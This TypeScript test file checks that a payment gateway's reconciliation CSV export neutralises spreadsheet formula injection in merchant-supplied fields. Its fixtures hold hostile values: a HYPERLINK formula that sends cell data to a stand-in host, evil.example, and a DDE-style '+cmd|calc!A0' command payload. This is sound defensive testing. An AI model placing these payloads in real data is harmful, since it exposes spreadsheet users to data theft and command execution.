/**
 * Formula injection through the reconciliation CSV (security hole 11, CSV part): a merchant's
 * merchantTransactionId or descriptor, or a shopper's name, flows from a payment through the
 * settlement run into the file a merchant's staff opens in a spreadsheet. Cells that a spreadsheet
 * would run (starting with `=`, `+`, `-`, `@`, TAB or CR) are written with a leading `'` by
 * default; numeric, date, enum and id columns never are. GATEWAY_CSV_NEUTRALISE=off writes the
 * values as they are. The reporting API's JSON is data for machines: never altered.
 */
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RECONCILIATION_COLUMNS } from '../../shared/settlement';
import { fakeClock } from '../test-kit/clock';
import { type TestGateway, type TestMerchant, testGateway } from '../test-kit/gateway';
import { debitThenTick } from '../test-kit/settlement/pay-day';
import { parseCsv } from '../test-kit/settlement/spec-checks';
import { settleDay } from './settlement-run';

const DAY = '2026-04-01';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Click")';
const SUM = '@SUM(1)+1';
const DESCRIPTOR = '-2+3 Shop descriptor';
const INVOICE = '+cmd|calc!A0';
const TAB = '\tTAB-led order';
describe('formula injection through the reconciliation CSV', () => {
  const clock = fakeClock(`${DAY}T09:00:00.000Z`);
  let gw: TestGateway;
  let m: TestMerchant;
  let off: TestMerchant;

  const pay = (who: TestMerchant, params: Record<string, string>) => debitThenTick(gw, clock, who, params);

  beforeAll(async () => {
    gw = await testGateway({ clock, settlement: { autoStart: false } });
    m = await gw.addMerchant({ channels: 1 });
    off = await gw.addMerchant({ channels: 1 });
    for (const who of [m, off]) {
      await pay(who, { merchantTransactionId: HYPERLINK, merchantInvoiceId: INVOICE });
      await pay(who, { merchantTransactionId: SUM, descriptor: DESCRIPTOR });
      await pay(who, { merchantTransactionId: TAB });
    }
    clock.advance(Date.parse('2026-04-02T03:00:00.000Z') - clock.now().getTime());
  });
  afterAll(async () => {
    await gw?.cleanup();
  });

  const rowsOf = async (file: string) => {
    const [header, ...rows] = parseCsv(await readFile(file, 'utf8'));
    expect(header).toEqual([...RECONCILIATION_COLUMNS]);
    return rows.map((row) => Object.fromEntries(header!.map((c, i) => [c, row[i]!])));
  };

  it("writes merchant-supplied cells that start a formula with a leading ', by default", async () => {
    const [account] = await settleDay({ store: gw.store, clock, dataDir: gw.dataDir }, DAY, {
      merchantId: m.merchantId,
    });
    const rows = await rowsOf(account!.file!);
    const settled = rows.filter((r) => r.ReconciliationType === 'SETTLED');
    expect(settled.map((r) => r.TransactionId)).toEqual([`'${HYPERLINK}`, `'${SUM}`, `'${TAB}`]);
    expect(settled[0]!.InvoiceId).toBe(`'${INVOICE}`);
    expect(settled[1]!.Descriptor).toBe(`'${DESCRIPTOR}`);
    // Nothing in the file starts a formula; numbers are numbers.
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
      expect(row.Amount).toMatch(/^\d+\.\d{2}$/);
      expect(row.SettlementAmount).toMatch(/^\d+\.\d{2}$/);
    }
  });

  it('writes them as they are with GATEWAY_CSV_NEUTRALISE=off', async () => {
    const [account] = await settleDay(
      { store: gw.store, clock, dataDir: gw.dataDir, env: { GATEWAY_CSV_NEUTRALISE: 'off' } },
      DAY,
      { merchantId: off.merchantId },
    );
    const settled = (await rowsOf(account!.file!)).filter((r) => r.ReconciliationType === 'SETTLED');
    expect(settled.map((r) => r.TransactionId)).toEqual([HYPERLINK, SUM, TAB]);
    expect(settled[1]!.Descriptor).toBe(DESCRIPTOR);
  });

  it("answers the reporting API's JSON unaltered, and its CSV as the file", async () => {
    const list = await gw.get(
      '/reports/v1/reconciliations/aggregations',
      { entityId: m.entityId, 'date.from': DAY, 'date.to': DAY },
      { token: m.token },
    );
    expect(list.status, list.text).toBe(200);
    const id = list.body.aggregations[0].id as string;
    const detail = await gw.get(
      `/reports/v1/reconciliations/aggregations/${id}`,
      { entityId: m.entityId },
      { token: m.token },
    );
    expect(detail.status).toBe(200);
    const settled = detail.body.records.filter((r: { recordType: string }) => r.recordType === 'SETTLED');
    expect(settled.map((r: { merchantTransactionId: string }) => r.merchantTransactionId)).toEqual([
      HYPERLINK,
      SUM,
      TAB,
    ]);
    expect(settled[1].descriptor).toBe(DESCRIPTOR);
    const file = await gw.send(
      'GET',
      `/reports/v1/reconciliations/aggregations/${id}/file?entityId=${m.entityId}`,
      undefined,
      { token: m.token },
    );
    expect(file.status).toBe(200);
    expect(file.text).toContain(`'${HYPERLINK.replaceAll('"', '""')}`);
    expect(file.text).not.toMatch(/(^|;)[=+\-@]/m);
  });
});
